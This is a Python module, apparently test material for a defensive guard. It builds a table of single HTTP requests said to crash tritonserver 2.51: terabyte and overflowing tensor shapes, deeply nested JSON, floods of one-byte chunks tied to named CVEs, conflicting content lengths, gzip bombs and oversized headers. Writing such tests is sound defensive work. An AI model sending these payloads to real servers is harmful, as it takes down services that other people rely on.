"""Single requests that end a tritonserver 2.51 without our guard, and some that were suspected to: a table of them."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Callable

INFER = "/v2/models/batched/infer"
GOOD = b'{"inputs":[{"name":"x","shape":[1,2],"datatype":"FP32","data":[0,1]}]}'
MB = 1_000_000


def post(body: bytes, *headers: str, path: str = INFER, length: bool = True) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: server", *headers]
    if length:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "\r\n"]).encode() + body


def chunked(body: bytes, size: int, *headers: str) -> bytes:
    pieces = [body[start : start + size] for start in range(0, len(body), size)]
    coded = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"
    return post(coded, "Transfer-Encoding: chunked", *headers, length=False)


def shaped(shape: str, datatype: str = "FP32", data: str = "[0,1]", model: str = "batched") -> bytes:
    body = f'{{"inputs":[{{"name":"x","shape":{shape},"datatype":"{datatype}","data":{data}}}]}}'
    return post(body.encode(), path=f"/v2/models/{model}/infer")


def binary(shape: str, datatype: str = "FP32", size: int = 8) -> bytes:
    described = f'"datatype":"{datatype}","parameters":{{"binary_data_size":{size}}}'
    head = f'{{"inputs":[{{"name":"x","shape":{shape},{described}}}]}}'.encode()
    return post(head + bytes(8), f"Inference-Header-Content-Length: {len(head)}")


def deep(levels: int, opening: bytes = b"[", closing: bytes = b"]") -> bytes:
    return opening * levels + closing * levels


FORM = "Content-Type: application/x-www-form-urlencoded"
GZIP, DEFLATE = "Content-Encoding: gzip", "Content-Encoding: deflate"
JSON_BEFORE = b'{"inputs":[{"name":"x","shape":[1,2],"datatype":"FP32","data":'

# Made when they are sent: some are of many megabytes.
POISONS: dict[str, Callable[[], bytes]] = {
    # Tritonserver takes memory for a shape before it looks at the data.
    "a shape of a terabyte": lambda: shaped("[1,1099511627776]"),
    "a shape of terabytes without an overflow": lambda: shaped("[1000000,1000000]"),
    "a shape that overflows": lambda: shaped("[4294967296,4294967296]"),
    "a shape that overflows to little": lambda: shaped("[4611686018427387905,4]"),
    "a shape of 2**63 - 1": lambda: shaped("[1,9223372036854775807]"),
    "a negative shape": lambda: shaped("[1,-1]"),
    "a shape of two negatives": lambda: shaped("[-1,-2]"),
    "a shape of a terabyte for strings": lambda: shaped("[1,1099511627776]", "BYTES", '["a"]', "words"),
    "a shape of a terabyte for a stream": lambda: shaped("[1,1099511627776]", "INT32", "[1]", "stream"),
    "a shape of a terabyte without batches": lambda: shaped("[1,1099511627776]", model="plain"),
    "a shape of a terabyte with binary data": lambda: binary("[1,1099511627776]"),
    "a size of data beyond the body": lambda: binary("[1,2]", size=2**40),
    "a shape of 100,000 axes": lambda: shaped("[" + "1," * 100_000 + "1]"),
    # JSON is read by functions that call themselves.
    "JSON that nests 50,000 deep": lambda: post(JSON_BEFORE + deep(50_000) + b"}]}"),
    "JSON that nests 1,000,000 deep": lambda: post(deep(MB)),
    "JSON that nests 20,000,000 deep": lambda: post(b"[" * 20 * MB),
    "objects that nest 200,000 deep": lambda: post(deep(200_000, b'{"a":', b"}")),
    "JSON that nests in generate": lambda: post(b'{"x":' + deep(50_000) + b"}", path="/v2/models/batched/generate"),
    "JSON that nests in generate_stream": lambda: post(
        b'{"x":' + deep(50_000) + b"}", path="/v2/models/stream/generate_stream"
    ),
    "JSON that nests in parameters": lambda: post(b'{"parameters":{"a":' + deep(200_000) + b"}}"),
    "JSON that nests in chunks": lambda: chunked(deep(300_000), 1000),
    "JSON that nests, in gzip": lambda: post(gzip.compress(b"[" * 20 * MB, 1), GZIP),
    "JSON that nests, in deflate": lambda: post(zlib.compress(b"[" * 20 * MB, 1), DEFLATE),
    "JSON that nests, in gzip in chunks": lambda: chunked(gzip.compress(b"[" * 20 * MB, 1), 5, GZIP),
    "JSON that nests in settings": lambda: post(deep(200_000), path="/v2/logging"),
    "JSON that nests, read as another request": lambda: post(GOOD) + post(deep(200_000)),
    # Every chunk takes some of the stack (CVE-2025-23310, CVE-2025-23311).
    "600,000 chunks of one byte": lambda: chunked(GOOD + b" " * 600_000, 1),
    "2,000,000 chunks of one byte": lambda: chunked(GOOD + b" " * 2 * MB, 1),
    # A body of this type is taken apart like a query, on the stack.
    "5 MB of the type that curl says": lambda: post(b"x" * 5 * MB, FORM),
    "20 MB of the type that curl says": lambda: post(b"x=" + b"1" * 20 * MB, FORM),
    "pairs of the type that curl says": lambda: post(b"a=b&" * 3 * MB, FORM),
    "5 MB of that type in chunks": lambda: chunked(b"x" * 5 * MB, 10_000, FORM),
    # Memory is taken by the first length, the end found by the last one or by chunks.
    "two lengths": lambda: post(GOOD, "Content-Length: 2147483648"),
    "two lengths of 2**63 - 1": lambda: post(GOOD, "Content-Length: 9223372036854775807"),
    "a length of 2**64 - 1": lambda: post(GOOD, "Content-Length: 18446744073709551615"),
    "two lengths in other letters": lambda: post(GOOD, "CONTENT-LENGTH:   2147483648"),
    "a length and chunks": lambda: chunked(GOOD, 100, "Content-Length: 2147483648"),
    "a JSON length beyond the body": lambda: post(GOOD, "Inference-Header-Content-Length: 100000"),
    "a JSON length far beyond the body": lambda: post(GOOD, "Inference-Header-Content-Length: 100000000000"),
    "a negative JSON length": lambda: post(GOOD, "Inference-Header-Content-Length: -1"),
    # Many and large things.
    "100,000 parameters": lambda: post(
        b'{"parameters":{' + b",".join(b'"p%d":1' % index for index in range(100_000)) + b"}," + GOOD[1:]
    ),
    "10,000 inputs": lambda: post(
        b'{"inputs":[' + b",".join(GOOD[11:-2].replace(b'"x"', b'"x%d"' % index) for index in range(10_000)) + b"]}"
    ),
    "10,000 outputs": lambda: post(GOOD[:-1] + b',"outputs":[' + b",".join([b'{"name":"y"}'] * 10_000) + b"]}"),
    "a gzip bomb": lambda: post(gzip.compress(bytes(200 * MB), 1), GZIP),
    "a million headers": lambda: post(GOOD, *["a: b"] * MB),
    "a header of 20 MB": lambda: post(GOOD, "a: " + "b" * 20 * MB),
    "a path of 5 MB": lambda: post(GOOD, path="/" * 5 * MB),
    "a query of 5 MB": lambda: post(GOOD, path=f"{INFER}?{'a=b&' * MB}"),
    "a million trailers": lambda: chunked(GOOD, 100)[:-2] + b"a: b\r\n" * MB + b"\r\n",
    "a chunk's extension of 5 MB": lambda: post(
        b"46;" + b"a" * 5 * MB + b"\r\n" + GOOD + b"\r\n0\r\n\r\n", "Transfer-Encoding: chunked", length=False
    ),
}
